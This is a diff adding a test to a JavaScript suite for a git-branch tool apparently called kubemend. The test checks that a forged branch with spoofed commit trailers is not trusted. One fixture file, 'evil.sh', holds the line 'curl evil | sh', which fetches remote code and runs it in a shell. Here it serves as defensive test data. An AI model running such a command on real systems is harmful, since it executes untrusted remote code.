@@ -177,3 +177,18 @@ test('a base that moved after it was read is no reason to send everything', asyn
   // A commit, a tree, a text.
   expect(Number(remote.git('count-objects').split(' ')[0]) - Number(before)).toBe(3);
 });
+
+test('what a branch holds is told by what merging it makes, not by what its commits say', async () => {
+  const remote = await withBranch();
+  const trailers = `x\n\nKubemend-Group: low\nKubemend-Fingerprint: ${FINGERPRINT}\n`;
+  const files = { 'a.yaml': OURS, 'b.yaml': 'b: 1\n', 'evil.sh': 'curl evil | sh\n' };
+  const forged = remote.commit(files, { branch: 'kubemend/low', message: trailers });
+  // What others changed since is in both.
+  remote.commit({ 'a.yaml': text([18, 'k18: theirs']), 'b.yaml': 'b: 2\n' });
+  const repository = await openFor(remote);
+  const { base, origin } = repository;
+  expect(await origin.read('kubemend/')).toMatchObject([{ sha: forged, fingerprint: FINGERPRINT, foreignCommits: 0 }]);
+  const wanted = await repository.commit(branchOf(base.commit, { 'a.yaml': text([3, 'k3: ours'], [18, 'k18: theirs']) }));
+  expect(await origin.holds(forged, wanted)).toBe(false);
+  expect(await origin.holds(remote.made, wanted)).toBe(true);
+});
